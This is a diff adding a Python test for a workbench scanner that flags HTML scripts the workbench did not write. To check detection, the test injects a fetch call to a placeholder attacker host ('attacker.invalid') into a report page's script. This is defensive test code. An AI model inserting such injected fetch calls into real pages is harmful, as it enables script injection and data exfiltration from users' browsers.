@@ -194,6 +194,19 @@ def test_page_scan_accepts_what_the_workbench_writes_and_names_the_rest():
     assert len(foreign_markup(broken)) == 2
 
 
+def test_page_scan_accepts_the_table_script_only_as_written():
+    from workbench.reportset.pageparts import table_script
+
+    head = '<html><head><script>window.VEGA_DEBUG = {"vega_version": "6"};</script><script>/* Vega */</script>'
+    page = head + f"<script>{table_script()}</script></head><body><p>text</p></body></html>"
+    assert foreign_markup(page) == []
+    altered = page.replace("r.hidden = ", "fetch('http://attacker.invalid/'); r.hidden = ")
+    [found] = foreign_markup(altered)
+    assert "a <script> the workbench did not write" in found
+    fourth = page.replace("</head>", "<script>/* more */</script></head>")
+    assert len(foreign_markup(fourth)) == 1
+
+
 def test_verify_names_foreign_markup(tmp_path):
     from workbench.reportset.verification import Verification, _check_markup
 
